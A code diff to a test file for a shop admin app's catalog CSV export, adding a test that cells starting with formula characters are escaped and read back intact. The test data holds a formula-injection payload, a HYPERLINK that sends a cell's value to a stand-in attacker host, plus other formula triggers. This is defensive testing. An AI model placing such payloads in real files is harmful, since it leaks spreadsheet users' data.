@@ -3,6 +3,7 @@ import { describe, expect, it } from "vitest";
 import { catalogCsvColumns } from "../../worker/schemas/catalog-csv-columns.ts";
 import { catalogCsvLine, cellsOf } from "../../worker/schemas/catalog-import.ts";
 import { catalogLines, csvAmount, lineErrors } from "../src/admin/lib/catalog-csv.ts";
+import { toCsv } from "../src/admin/lib/csv.ts";
 import type { AdminProduct } from "../src/admin/lib/types.ts";
 import { ApiError } from "../src/lib/http.ts";
 
@@ -60,7 +61,7 @@ describe("the catalog file the admin app exports", () => {
       ["TEE-M-BLUE", "Size=M; Colour=Blue", "49.90", "false"],
       ["TEE-L-BLUE", "Size=L; Colour=Blue", "50.00", "true"],
     ]);
-    const csv = Papa.unparse(lines, { columns: [...catalogCsvColumns], newline: "\r\n" });
+    const csv = toCsv(lines, [...catalogCsvColumns]);
     const parsed = Papa.parse<Record<string, string>>(`\uFEFF${csv}`, { header: true, skipEmptyLines: "greedy" });
     expect(parsed.meta.fields).toEqual([...catalogCsvColumns]);
     const read = parsed.data.map((record) => catalogCsvLine.parse(cellsOf(record)));
@@ -82,6 +83,38 @@ describe("the catalog file the admin app exports", () => {
       variantActive: false,
     });
     expect(read[1]).toMatchObject({ sku: "TEE-L-BLUE", price: 5000, oldPrice: 6005, variantActive: true });
+  });
+
+  it("escapes cells a spreadsheet would run as formulas, and the import reads them back as they were", () => {
+    const hostile = [
+      '=HYPERLINK("http://evil.example/?leak="&B2,"Click")',
+      "+1+1",
+      "-2+3",
+      "@SUM(A1:A2)",
+      "\t=1+1",
+      "\r=1+1",
+      "'=already quoted",
+      "''@twice",
+      "Plain name",
+      "a = b, not a formula",
+    ];
+    const lines = hostile.map((name, i) => ({
+      ...catalogLines([tee], [], [])[0],
+      sku: `SKU-${i}`,
+      name,
+      description: name,
+    }));
+    const csv = toCsv(lines, [...catalogCsvColumns]);
+    const cells = Papa.parse<Record<string, string>>(csv, { header: true }).data;
+    // As a spreadsheet reads the file: no cell begins with a formula's first character.
+    for (const row of cells) for (const value of Object.values(row)) expect(value).not.toMatch(/^[=+\-@\t\r]/);
+    expect(cells[0].name).toBe(`'${hostile[0]}`);
+    expect(cells[8].name).toBe("Plain name");
+    expect(cells[6].name).toBe("''=already quoted");
+    // As the import reads it: exactly what was exported (the import trims, so the tab and CR lines keep their "=1+1").
+    const read = cells.map((record) => catalogCsvLine.parse(cellsOf(record)));
+    expect(read.map((line) => line.name)).toEqual(hostile.map((name) => name.trim()));
+    expect(read.map((line) => line.description)).toEqual(hostile.map((name) => name.trim()));
   });
 
   it("tells a refusal by line from any other failure", () => {
